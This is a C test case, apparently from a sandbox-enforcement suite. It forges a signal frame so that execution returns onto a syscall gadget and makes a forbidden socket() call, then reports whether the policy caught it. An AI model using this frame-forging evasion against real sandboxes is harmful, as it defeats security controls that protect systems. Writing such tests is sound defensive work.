/*
 * claim: makes a forbidden call by a forged signal frame that returns onto a syscall instruction
 * class: abi
 * bare: 1
 * compute: policy-violation socket
 * see: pitfalls 39
 */
#include "attack.h"
#include <ucontext.h>

extern const char gadget[];
extern volatile long gadget_result;
volatile long gadget_result = -1;
static unsigned long back_rip, back_rsp;
__asm__(".text\ngadget: syscall\n mov %rax, gadget_result(%rip)\n jmp *%rbx\n");

static void forge(int sig, siginfo_t *info, void *context)
{
	ucontext_t *uc = context;
	greg_t *g = uc->uc_mcontext.gregs;

	(void)sig;
	(void)info;
	back_rip = (unsigned long)g[REG_RIP];
	back_rsp = (unsigned long)g[REG_RSP];
	g[REG_RBX] = g[REG_RIP];
	g[REG_RIP] = (greg_t)(uintptr_t)gadget;
	g[REG_RAX] = SYS_socket;
	g[REG_RDI] = 1;
	g[REG_RSI] = 1;
	g[REG_RDX] = 0;
}

int main(void)
{
	struct sigaction sa = { .sa_sigaction = forge, .sa_flags = SA_SIGINFO };

	sigaction(SIGUSR1, &sa, 0);
	__asm__ volatile("mov %0, %%eax\n\t"
			 "syscall"
			 :
			 : "i"(SYS_tgkill), "D"(syscall(SYS_getpid)), "S"(syscall(SYS_gettid)), "d"((long)SIGUSR1)
			 : "rax", "rbx", "rcx", "r11", "memory");
	errno = (int)-gadget_result;
	settle(gadget_result, "a forged frame made a socket");
}
